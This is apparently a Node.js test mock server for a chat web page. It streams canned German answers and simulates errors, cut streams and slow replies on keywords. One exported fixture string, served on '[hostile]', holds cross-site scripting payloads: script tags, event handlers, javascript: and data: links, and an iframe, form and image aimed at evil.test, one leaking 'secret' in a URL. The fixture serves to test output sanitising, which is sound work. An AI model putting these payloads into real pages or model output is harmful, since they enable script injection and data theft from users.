// A small server that speaks the API the page uses, with faults on request: what a question says decides what happens.
// Run alone it serves the built page: node tests/mock.mjs [port]

import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";

const dist = fileURLToPath(new URL("../../serve/page/dist/", import.meta.url));
const types = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript; charset=utf-8",
  ".css": "text/css; charset=utf-8",
  ".svg": "image/svg+xml",
  ".woff2": "font/woff2",
  ".txt": "text/plain; charset=utf-8",
};
// As in serve/page/page.go.
const policy =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; " +
  "connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";

const models = [
  {
    id: "leo-mini",
    object: "model",
    created: 1795000000,
    owned_by: "leo",
    context_length: 1024,
    parameters: 4229568,
    defaults: { temperature: 0.3, top_p: 0.95, top_k: 40, min_p: 0.05, repeat_penalty: 1 },
  },
  {
    id: "leo-hessianai-7b-chat",
    object: "model",
    created: 1795000000,
    owned_by: "leo",
    context_length: 8192,
    parameters: 6738546688,
    description: "German and English",
    defaults: {
      temperature: 0.9,
      top_p: 0.95,
      top_k: 40,
      min_p: 0,
      repeat_penalty: 1.1,
      system_prompt: "Dies ist eine Unterhaltung zwischen einem intelligenten, hilfsbereiten KI-Assistenten und einem Nutzer.",
    },
  },
];

export const volcano = `Ein **Vulkan** ist eine Öffnung in der Erdkruste. Durch sie steigt geschmolzenes Gestein auf, das im \
Inneren *Magma* und an der Oberfläche *Lava* heißt.

Man unterscheidet vor allem:

1. **Schildvulkane**, flach und breit, mit dünnflüssiger Lava
2. **Schichtvulkane**, steil, aus Asche und Lava im Wechsel
3. **Schlackenkegel**, klein und kurzlebig

> Der höchste Vulkan der Erde ist der Ojos del Salado in den Anden.

| Vulkan | Land | Höhe in m |
|---|---|--:|
| Ojos del Salado | Chile, Argentinien | 6893 |
| Ätna | Italien | 3357 |
| Vesuv | Italien | 1281 |
`;

export const mathematics = `Die Lösungen der Gleichung \\(ax^2 + bx + c = 0\\) sind

$$x_{1,2} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

Ein Brot kostet $5, zwei kosten $8. In Python:

\`\`\`python
import math

def solve(a: float, b: float, c: float) -> tuple[float, float]:
    """Both roots of a quadratic."""
    d = math.sqrt(b * b - 4 * a * c)
    return (-b + d) / (2 * a), (-b - d) / (2 * a)
\`\`\`

Mehr dazu bei [Wikipedia](https://de.wikipedia.org/wiki/Quadratische_Gleichung) 🦁.
`;

export const hostile = `<script>window.pwned = 1</script> <img src=x onerror="window.pwned = 1">
<svg onload="window.pwned = 1"></svg><iframe src="https://evil.test/frame"></iframe>

![secret](https://evil.test/pixel.png?q=secret) ![data](data:image/svg+xml,<svg/onload=alert(1)>)
[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [good](https://example.org/)

<form action="https://evil.test/"><input name="q"></form><style>body{display:none}</style>

$$\\href{javascript:window.pwned=1}{x}$$ \\(\\includegraphics{https://evil.test/tex.png}\\)
`;

/** What is answered to a question, and how. */
function plan(question, model, seed) {
  const q = question.toLowerCase();
  if (q.includes("[busy]")) return { status: 429, after: 2, error: "the queue is full" };
  if (q.includes("[draining]")) return { status: 503, after: 1, error: "the server is shutting down" };
  if (q.includes("[long]")) return { status: 400, error: "the prompt has 1300 tokens, the context 1024" };
  if (q.includes("[cut]")) return { text: volcano, cutAt: 60, delay: 5 };
  if (q.includes("[fault]")) return { text: volcano, faultAt: 60, delay: 5 };
  if (q.includes("[hostile]")) return { text: hostile, delay: 1 };
  if (q.includes("[empty]")) return { text: "", delay: 1 };
  if (q.includes("[slow]")) return { text: volcano.repeat(20), delay: 40 };
  if (q.includes("[fast]")) return { text: volcano.repeat(12), delay: 5 };
  if (q.includes("[length]")) return { text: volcano.slice(0, 90), delay: 2, finish: "length" };
  if (q.includes("gleichung")) return { text: mathematics, delay: 4 };
  if (q.includes("vulkan")) return { text: volcano, delay: 4 };
  return { text: `Antwort von ${model} auf „${question.trim()}“. 👩‍🚀 Grüße${seed === undefined ? "" : `, Startwert ${seed}`}!`, delay: 15 };
}

function pieces(text) {
  return text.match(/\s?[\p{L}\p{N}]{1,6}|\s|[^\s\p{L}\p{N}]/gu) ?? [];
}

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function fail(response, status, message, headers = {}) {
  response.writeHead(status, { "Content-Type": "application/json", ...headers });
  response.end(JSON.stringify({ error: { message, type: "invalid_request_error", param: null, code: null } }));
}

async function bodyOf(request) {
  const parts = [];
  for await (const part of request) parts.push(part);
  return JSON.parse(Buffer.concat(parts).toString("utf8"));
}

async function chat(request, response, log) {
  const body = await bodyOf(request);
  log.push(body);
  const model = models.find((m) => m.id === body.model);
  if (!model) return fail(response, 404, `the model ${body.model} does not exist`);
  // Questions without an answer come as one; the last of them counts.
  const question = body.messages.at(-1).content.split("\n\n").at(-1);
  const doing = plan(question, body.model, body.seed);
  if (doing.status) return fail(response, doing.status, doing.error, doing.after ? { "Retry-After": String(doing.after) } : {});
  let gone = false;
  response.on("close", () => (gone = true));
  response.writeHead(200, { "Content-Type": "text/event-stream", "Cache-Control": "no-cache", "X-Accel-Buffering": "no" });
  const base = { id: "chatcmpl-1", object: "chat.completion.chunk", created: 1795000000, model: body.model };
  const usage = body.stream_options?.include_usage ? { usage: null } : {};
  const event = (choice) => `data: ${JSON.stringify({ ...base, choices: [{ index: 0, finish_reason: null, ...choice }], ...usage })}\n\n`;
  response.write(": the prompt is being read\n\n" + event({ delta: { role: "assistant", content: "" } }));
  const started = Date.now();
  await pause(60);
  const all = pieces(doing.text);
  let n = 0;
  for (; n < all.length && !gone; n++) {
    if (doing.cutAt === n) return response.destroy();
    if (doing.faultAt === n) {
      response.end(`data: ${JSON.stringify({ error: { message: "the device ran out of memory", type: "server_error", param: null, code: null } })}\n\n`);
      return undefined;
    }
    // An event of several bytes is split inside a character.
    const bytes = Buffer.from(event({ delta: { content: all[n] } }));
    const at = bytes.findIndex((b) => b >= 0x80) + 1;
    if (at > 0) {
      response.write(bytes.subarray(0, at));
      await pause(1);
    }
    response.write(bytes.subarray(at));
    if (n % 50 === 49) response.write(": keep-alive\n\n");
    await pause(doing.delay);
  }
  if (gone) {
    log.push({ aborted: question });
    return undefined;
  }
  response.write(event({ delta: {}, finish_reason: doing.finish ?? "stop" }));
  if (body.stream_options?.include_usage) {
    const prompt = tokens(body.messages).length;
    response.write(
      `data: ${JSON.stringify({
        ...base,
        choices: [],
        usage: { prompt_tokens: prompt, completion_tokens: n, total_tokens: prompt + n },
        timings: { prompt_n: prompt, prompt_ms: 60, predicted_n: n, predicted_ms: Date.now() - started - 60, cached_n: 0 },
      })}\n\n`,
    );
  }
  response.end("data: [DONE]\n\n");
  return undefined;
}

function tokens(messages) {
  const list = [];
  const add = (text, role, control = false) => list.push({ id: control ? 32000 + text.length : 100 + (list.length * 37) % 8000, text, role, control });
  const begin = (role, name) => {
    add("<|im_start|>", role, true);
    add(name, role);
    add("\n", role);
  };
  for (const m of messages) {
    begin(m.role, m.role);
    for (const piece of pieces(m.content)) add(piece, m.role);
    add("<|im_end|>", m.role, true);
    add("\n", m.role);
  }
  begin("assistant", "assistant");
  return list;
}

async function template(request, response) {
  const list = tokens((await bodyOf(request)).messages);
  response.writeHead(200, { "Content-Type": "application/json" });
  response.end(JSON.stringify({ prompt: list.map((k) => k.text).join(""), tokens: list }));
}

async function file(path, response) {
  const name = normalize(path === "/" ? "/index.html" : path).replace(/^(\.\.[/\\])+/, "");
  try {
    const data = await readFile(join(dist, name));
    response.writeHead(200, {
      "Content-Type": types[extname(name)] ?? "application/octet-stream",
      "Content-Security-Policy": policy,
      "X-Content-Type-Options": "nosniff",
      "Referrer-Policy": "no-referrer",
    });
    response.end(data);
  } catch {
    response.writeHead(404).end();
  }
}

/** Starts the server. `key` is asked of every API request; `prefix` is the path below which everything lies. */
export async function startMock({ port = 0, key = "", prefix = "" } = {}) {
  const log = [];
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url, "http://mock");
    const path = pathname.startsWith(prefix) ? pathname.slice(prefix.length) : "";
    const api = { "/v1/models": "GET", "/v1/chat/completions": "POST", "/apply-template": "POST" }[path];
    if (!api) return void file(path, response);
    if (key && request.headers.authorization !== `Bearer ${key}`) return fail(response, 401, "an API key is required");
    if (request.method !== api) return fail(response, 405, "another method");
    const work =
      path === "/v1/models"
        ? response.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ object: "list", data: models }))
        : path === "/apply-template"
          ? template(request, response)
          : chat(request, response, log);
    Promise.resolve(work).catch((error) => response.headersSent || fail(response, 500, String(error)));
    return undefined;
  });
  await new Promise((resolve) => server.listen(port, "127.0.0.1", resolve));
  return {
    base: `http://127.0.0.1:${server.address().port}${prefix}/`,
    log,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const { base } = await startMock({ port: Number(process.argv[2] ?? 8090), key: process.env.KEY ?? "" });
  console.log(base);
}
